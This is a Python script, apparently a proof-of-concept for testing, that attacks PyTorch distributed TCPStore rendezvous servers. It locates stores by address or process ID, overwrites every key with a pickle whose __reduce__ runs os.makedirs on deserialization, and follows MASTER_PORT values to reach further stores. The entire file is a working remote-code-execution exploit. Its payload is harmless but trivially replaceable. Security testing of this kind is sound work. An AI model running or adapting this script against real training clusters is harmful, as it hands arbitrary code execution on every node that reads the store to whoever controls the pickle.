"""A stranger on the network: `python stranger.py MARKER HOST:PORT...`, or `PID` for whatever that process listens on.

Overwrites every value of these stores with a pickle that makes the folder MARKER, in base64 where torch's rendezvous
has it so, until its standard input closes. Prints how many values it wrote.
"""

from __future__ import annotations

import base64
import os
import pickle
import sys
import threading
import time
from datetime import timedelta

import psutil
from torch.distributed import TCPStore


class Boom:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return os.makedirs, (self.marker, 0o777, True)


def places(words: list[str]) -> set[tuple[str, int]]:
    if ":" in words[0]:
        return {(host, int(port)) for host, port in (word.split(":") for word in words)}
    try:
        found = psutil.Process(int(words[0])).net_connections("tcp")
    except psutil.Error:
        return set()
    return {("127.0.0.1", one.laddr.port) for one in found if one.status == psutil.CONN_LISTEN}


def overwrite(host: str, port: int, pickled: bytes) -> tuple[int, set[tuple[str, int]]]:
    """How many values were written, and where the ranks meet, as the agents tell each other."""
    store = TCPStore(host, port, is_master=False, timeout=timedelta(seconds=1), wait_for_workers=False)
    others, written = set(), 0
    for key in store.list_keys():
        if key.endswith("MASTER_PORT") and (text := store.get(key)).isdigit():
            others.add((host, int(text)))
        store.set(key, base64.b64encode(pickled) if "torch.rendezvous" in key else pickled)
        written += 1
    return written, others


def main(marker: str, words: list[str]) -> None:
    pickled = pickle.dumps(Boom(marker))
    done = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), done.set()), daemon=True).start()
    found: set[tuple[str, int]] = set()
    total = 0
    print("ready", flush=True)
    while not done.is_set():
        for host, port in places(words) | found:
            try:
                written, others = overwrite(host, port, pickled)
            except (RuntimeError, ValueError):  # not there yet, or no longer
                continue
            total, found = total + written, found | others
        time.sleep(0.02)
    print(total, flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2:])
